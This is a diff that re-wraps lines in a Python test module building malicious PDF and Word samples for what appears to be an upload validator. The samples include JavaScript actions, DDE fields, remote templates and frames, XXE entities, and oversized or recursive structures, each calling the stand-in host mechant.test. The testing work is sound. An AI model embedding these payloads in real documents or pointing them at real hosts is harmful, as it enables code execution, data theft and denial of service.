@@ -92,7 +92,11 @@ def assembled(objects: list[bytes], trailer: str = "") -> bytes:
     start = len(out)
     out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
     out += b"".join(b"%010d 00000 n \n" % place for place in places)
-    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer.encode(), start)
+    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (
+        len(objects) + 1,
+        trailer.encode(),
+        start,
+    )
     return bytes(out)
 
 
@@ -156,7 +160,10 @@ def script_in_an_object_stream() -> bytes:
     inner = [
         (1, f"<< /Type /Catalog /Pages 2 0 R /OpenAction {SCRIPT} >>".encode()),
         (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
-        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>"),
+        (
+            3,
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
+        ),
         (5, FONT),
     ]
     heads, bodies = [], b""
@@ -215,7 +222,9 @@ def form_of_xml() -> bytes:
     return pdf(
         "/AcroForm << /Fields [] /XFA 6 0 R >>",
         "",
-        stream(b"<xdp><script contentType='application/x-javascript'>xfa.host.gotoURL('http://mechant.test')</script></xdp>"),
+        stream(
+            b"<xdp><script contentType='application/x-javascript'>xfa.host.gotoURL('http://mechant.test')</script></xdp>"
+        ),
     )
 
 
@@ -357,7 +366,9 @@ def rights_and_signature() -> bytes:
 
 @sent(PDFS)
 def requirement_with_a_script() -> bytes:
-    return pdf(f"/Requirements [<< /S /EnableJavaScripts /RH << /S /JS /Script {SCRIPT} >> >>] /URI << /Base (http://mechant.test) >>")
+    return pdf(
+        f"/Requirements [<< /S /EnableJavaScripts /RH << /S /JS /Script {SCRIPT} >> >>] /URI << /Base (http://mechant.test) >>"
+    )
 
 
 @sent(PDFS)
@@ -371,7 +382,9 @@ def thumbnail_threads_and_web_capture() -> bytes:
 
 @sent(PDFS)
 def structure_with_a_script() -> bytes:
-    return pdf(f"/StructTreeRoot << /Type /StructTreeRoot /K << /S /Link /A {SCRIPT} >> >> /MarkInfo << /Marked true >>")
+    return pdf(
+        f"/StructTreeRoot << /Type /StructTreeRoot /K << /S /Link /A {SCRIPT} >> >> /MarkInfo << /Marked true >>"
+    )
 
 
 @sent(PDFS)
@@ -461,7 +474,10 @@ def form_that_holds_itself() -> bytes:
     return pdf(
         "",
         "",
-        stream(b"/X Do", f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /A {SCRIPT}"),
+        stream(
+            b"/X Do",
+            f"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /A {SCRIPT}",
+        ),
         resources="/Font << /F1 5 0 R >> /XObject << /X 6 0 R >>",
     )
 
@@ -536,7 +552,13 @@ def tree_of_pages_that_is_a_ring() -> bytes:
 @sent(PDFS, refusals.TooManyPages)
 def ten_thousand_pages() -> bytes:
     kids = " ".join(f"{number} 0 R" for number in range(6, 10_006))
-    return pdf("", "", *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << >> >>"] * 10_000, kids=f"[{kids}]", count=10_000)
+    return pdf(
+        "",
+        "",
+        *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Resources << >> >>"] * 10_000,
+        kids=f"[{kids}]",
+        count=10_000,
+    )
 
 
 @sent(PDFS, refusals.TooManyPages)
@@ -581,8 +603,10 @@ def many_drawings_that_swell() -> bytes:
 @sent(PDFS, refusals.Broken)
 def objects_that_swell() -> bytes:
     data = zeros(300)
-    return b"%PDF-1.5\n1 0 obj\n" + stream(data, "/Type /XRef /Size 8 /Root 1 0 R /W [1 4 2] /Filter /FlateDecode") + (
-        b"\nendobj\nstartxref\n9\n%%EOF\n"
+    return (
+        b"%PDF-1.5\n1 0 obj\n"
+        + stream(data, "/Type /XRef /Size 8 /Root 1 0 R /W [1 4 2] /Filter /FlateDecode")
+        + (b"\nendobj\nstartxref\n9\n%%EOF\n")
     )
 
 
@@ -598,7 +622,9 @@ def packed_in_an_unknown_way() -> bytes:
 
 @sent(PDFS)
 def half_a_million_brackets() -> bytes:
-    return pdf("", "", b"[" * 500_000, resources="/Font << /F1 5 0 R >> /ColorSpace << /A 6 0 R >>").replace(b"/Type /Catalog", b"/Type /Catalog /A 6 0 R")
+    return pdf("", "", b"[" * 500_000, resources="/Font << /F1 5 0 R >> /ColorSpace << /A 6 0 R >>").replace(
+        b"/Type /Catalog", b"/Type /Catalog /A 6 0 R"
+    )
 
 
 @sent(PDFS, refusals.TooMuch)
@@ -636,7 +662,9 @@ def picture_of_a_broken_kind() -> bytes:
 
 @sent(PDFS, refusals.UnreadablePicture)
 def photograph_that_is_none() -> bytes:
-    return with_picture("/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode", b"\xff\xd8mechant.test")
+    return with_picture(
+        "/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode", b"\xff\xd8mechant.test"
+    )
 
 
 @sent(PDFS, refusals.UnreadablePicture)
@@ -646,12 +674,16 @@ def photograph_of_waves_that_is_none() -> bytes:
 
 @sent(PDFS, refusals.LargePicture)
 def picture_the_size_of_a_field() -> bytes:
-    return with_picture("/Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode", zeros(1))
+    return with_picture(
+        "/Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /FlateDecode", zeros(1)
+    )
 
 
 @sent(PDFS, refusals.LargePicture)
 def photograph_larger_than_it_says() -> bytes:
-    return with_picture("/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode", wide_jpeg())
+    return with_picture(
+        "/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode", wide_jpeg()
+    )
 
 
 @sent(PDFS, refusals.Broken)
@@ -722,7 +754,7 @@ def postscript() -> bytes:
 
 @sent(PDFS, refusals.WrongKind)
 def text_of_no_format() -> bytes:
-    return "Mon parcours : dix ans en soudure.".encode()
+    return b"Mon parcours : dix ans en soudure."
 
 
 @sent(PDFS, refusals.TooHeavy)
@@ -784,11 +816,12 @@ def types(*overrides: tuple[str, str], main: str = MAIN) -> bytes:
     ).encode()
 
 
-def members(
-    inside: str = "", *links: tuple[str, ...], main: str = MAIN, **parts: bytes
-) -> dict[str, bytes]:
+def members(inside: str = "", *links: tuple[str, ...], main: str = MAIN, **parts: bytes) -> dict[str, bytes]:
     """Members of a small document. ``parts`` are named in the style ``word__header1_xml``."""
-    named = {"[Content_Types].xml": types(main=main), "_rels/.rels": relations(("rId1", "officeDocument", "word/document.xml"))}
+    named = {
+        "[Content_Types].xml": types(main=main),
+        "_rels/.rels": relations(("rId1", "officeDocument", "word/document.xml")),
+    }
     named["word/document.xml"] = body(inside).encode()
     if links:
         named["word/_rels/document.xml.rels"] = relations(*links)  # type: ignore[arg-type]
@@ -818,7 +851,9 @@ def blip(attributes: str, more: str = "") -> str:
 def field(*pieces: str, result: str = "42") -> str:
     commands = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
     return (
-        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + commands + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + commands
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
         f'<w:r><w:t>{result}</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
     )
 
@@ -868,7 +903,9 @@ def template_from_elsewhere() -> bytes:
                 ("rId1", "settings", "settings.xml"),
                 word__settings_xml=part("settings", '<w:attachedTemplate r:id="rId1"/><w:zoom w:percent="100"/>'),
             ),
-            "word/_rels/settings.xml.rels": relations(("rId1", "attachedTemplate", "http://mechant.test/a.dotm", "External")),
+            "word/_rels/settings.xml.rels": relations(
+                ("rId1", "attachedTemplate", "http://mechant.test/a.dotm", "External")
+            ),
         }
     )
 
@@ -907,7 +944,11 @@ def linked_object() -> bytes:
 
 @sent(DOCUMENTS)
 def embedded_workbook() -> bytes:
-    return docx("", ("rId9", "package", "embeddings/a.xlsx"), word__embeddings__a_xlsx=archive({"a": b"mechant.test"}, stored=True))
+    return docx(
+        "",
+        ("rId9", "package", "embeddings/a.xlsx"),
+        word__embeddings__a_xlsx=archive({"a": b"mechant.test"}, stored=True),
+    )
 
 
 @sent(DOCUMENTS)
@@ -955,7 +996,9 @@ def command_in_a_field_in_a_field() -> bytes:
 
 @sent(DOCUMENTS)
 def field_that_never_ends() -> bytes:
-    return docx('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE mechant.test</w:instrText></w:r></w:p>')
+    return docx(
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE mechant.test</w:instrText></w:r></w:p>'
+    )
 
 
 @sent(DOCUMENTS)
@@ -1011,12 +1054,18 @@ def link_on_a_picture() -> bytes:
 
 @sent(DOCUMENTS)
 def picture_that_is_a_web_page() -> bytes:
-    return docx(blip('r:embed="rId9"'), ("rId9", "image", "media/a.png"), word__media__a_png=b"<script>mechant.test</script>")
+    return docx(
+        blip('r:embed="rId9"'), ("rId9", "image", "media/a.png"), word__media__a_png=b"<script>mechant.test</script>"
+    )
 
 
 @sent(DOCUMENTS)
 def picture_with_a_page_behind_it() -> bytes:
-    return docx(blip('r:embed="rId9"'), ("rId9", "image", "media/a.png"), word__media__a_png=png() + b"<script>mechant.test</script>")
+    return docx(
+        blip('r:embed="rId9"'),
+        ("rId9", "image", "media/a.png"),
+        word__media__a_png=png() + b"<script>mechant.test</script>",
+    )
 
 
 @sent(DOCUMENTS)
@@ -1103,7 +1152,9 @@ def frames_from_elsewhere() -> bytes:
             **members(
                 "",
                 ("rId1", "webSettings", "webSettings.xml"),
-                word__webSettings_xml=part("webSettings", '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>'),
+                word__webSettings_xml=part(
+                    "webSettings", '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>'
+                ),
             ),
             "word/_rels/webSettings.xml.rels": relations(("rId1", "frame", "http://mechant.test", "External")),
         }
@@ -1142,7 +1193,9 @@ def note_with_a_picture_from_elsewhere() -> bytes:
             **members(
                 "",
                 ("rId1", "footnotes", "footnotes.xml"),
-                word__footnotes_xml=part("footnotes", '<w:footnote w:id="2">' + blip('r:link="rId1"') + '</w:footnote>'),
+                word__footnotes_xml=part(
+                    "footnotes", '<w:footnote w:id="2">' + blip('r:link="rId1"') + "</w:footnote>"
+                ),
             ),
             "word/_rels/footnotes.xml.rels": relations(("rId1", "image", "http://mechant.test/a.png", "External")),
         }
@@ -1155,7 +1208,9 @@ def comment_and_glossary() -> bytes:
         '<w:p><w:commentRangeStart w:id="1"/><w:r><w:commentReference w:id="1"/></w:r></w:p>',
         ("rId1", "comments", "comments.xml"),
         ("rId2", "glossaryDocument", "glossary/document.xml"),
-        word__comments_xml=part("comments", f'<w:comment w:id="1" w:author="mechant.test">{paragraph("mechant.test")}</w:comment>'),
+        word__comments_xml=part(
+            "comments", f'<w:comment w:id="1" w:author="mechant.test">{paragraph("mechant.test")}</w:comment>'
+        ),
         word__glossary__document_xml=body(field("DDEAUTO mechant.test")).encode(),
     )
 
@@ -1192,7 +1247,9 @@ def theme_from_elsewhere() -> bytes:
 
 @sent(DOCUMENTS)
 def element_of_another_world() -> bytes:
-    return docx('<x:script xmlns:x="http://mechant.test/ns">mechant.test</x:script><w:p x:on="mechant.test" xmlns:x="http://mechant.test/ns"/>')
+    return docx(
+        '<x:script xmlns:x="http://mechant.test/ns">mechant.test</x:script><w:p x:on="mechant.test" xmlns:x="http://mechant.test/ns"/>'
+    )
 
 
 @sent(DOCUMENTS)
@@ -1342,7 +1399,9 @@ def entity_that_reads_a_file_in_wide_letters() -> bytes:
 
 @sent(DOCUMENTS, refusals.Broken)
 def definitions_from_elsewhere() -> bytes:
-    return with_doctype('<!DOCTYPE a SYSTEM "http://mechant.test/a.dtd" [<!ENTITY % b SYSTEM "http://mechant.test">%b;]>', "")
+    return with_doctype(
+        '<!DOCTYPE a SYSTEM "http://mechant.test/a.dtd" [<!ENTITY % b SYSTEM "http://mechant.test">%b;]>', ""
+    )
 
 
 @sent(DOCUMENTS, refusals.Broken)
@@ -1374,7 +1433,9 @@ def workbook() -> bytes:
 
 @sent(DOCUMENTS, refusals.WrongKind)
 def document_elsewhere() -> bytes:
-    return archive({**members(), "_rels/.rels": relations(("rId1", "officeDocument", "http://mechant.test/a.xml", "External"))})
+    return archive(
+        {**members(), "_rels/.rels": relations(("rId1", "officeDocument", "http://mechant.test/a.xml", "External"))}
+    )
 
 
 @sent(DOCUMENTS, refusals.Broken)
